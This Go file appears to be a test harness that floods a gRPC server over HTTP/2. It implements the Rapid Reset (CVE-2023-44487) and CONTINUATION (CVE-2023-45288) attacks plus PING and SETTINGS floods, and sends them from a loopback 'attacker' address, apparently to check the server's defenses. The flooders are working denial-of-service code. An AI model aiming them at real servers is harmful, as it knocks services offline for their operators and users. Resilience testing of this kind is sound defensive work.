package main

import (
	"bytes"
	"context"
	"io"
	"net"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// flooder writes as many frames as most that no client would send, or until the server ends the connection or ctx ends. It
// returns how many.
type flooder func(ctx context.Context, f *http2.Framer, most int) int

// attackersAddress is one of this machine's that no honest client has: a server may hold an address to account.
var attackersAddress = &net.TCPAddr{IP: net.IPv4(127, 0, 0, 66)}

// flood opens one connection after the other to address and lets attack have each.
func flood(ctx context.Context, address string, attack flooder, most int) (frames, connections int) {
	dialer := net.Dialer{Timeout: time.Second, LocalAddr: attackersAddress}
	for ctx.Err() == nil {
		conn, err := dialer.DialContext(ctx, "tcp", address)
		if err != nil {
			continue
		}
		connections++
		go func() { _, _ = io.Copy(io.Discard, conn) }()
		stop := context.AfterFunc(ctx, func() { _ = conn.Close() })
		f := http2.NewFramer(conn, nil)
		_, err = io.WriteString(conn, http2.ClientPreface)
		if err == nil && f.WriteSettings() == nil {
			frames += attack(ctx, f, most)
		}
		stop()
		_ = conn.Close()
	}
	return frames, connections
}

func callHeaders() []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for _, f := range [][2]string{
		{":method", "POST"}, {":scheme", "http"}, {":path", "/hanconv.v1.ConversionService/Convert"}, {":authority", "a"},
		{"content-type", "application/grpc"}, {"te", "trailers"},
	} {
		_ = e.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	return b.Bytes()
}

const mostFrames = 400_000 // on one connection

// rapidReset opens calls and takes each back at once (CVE-2023-44487).
func rapidReset(ctx context.Context, f *http2.Framer, most int) int {
	headers := callHeaders()
	for n := range most / 2 {
		id := uint32(2*n + 1)
		err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: headers, EndHeaders: true})
		if err != nil || f.WriteRSTStream(id, http2.ErrCodeCancel) != nil || ctx.Err() != nil {
			return 2 * n
		}
	}
	return most
}

func pings(ctx context.Context, f *http2.Framer, most int) int {
	return repeat(ctx, most, func() error { return f.WritePing(false, [8]byte{1}) })
}

func settings(ctx context.Context, f *http2.Framer, most int) int {
	return repeat(ctx, most, func() error { return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 16}) })
}

// continuations never ends the headers of a call (CVE-2023-45288).
func continuations(ctx context.Context, f *http2.Framer, most int) int {
	if f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: callHeaders()}) != nil {
		return 0
	}
	var b bytes.Buffer
	_ = hpack.NewEncoder(&b).WriteField(hpack.HeaderField{Name: "x-a", Value: strings.Repeat("a", 8000)})
	return repeat(ctx, most, func() error { return f.WriteContinuation(1, false, b.Bytes()) })
}

func repeat(ctx context.Context, most int, write func() error) int {
	for n := range most {
		if write() != nil || ctx.Err() != nil {
			return n
		}
	}
	return most
}
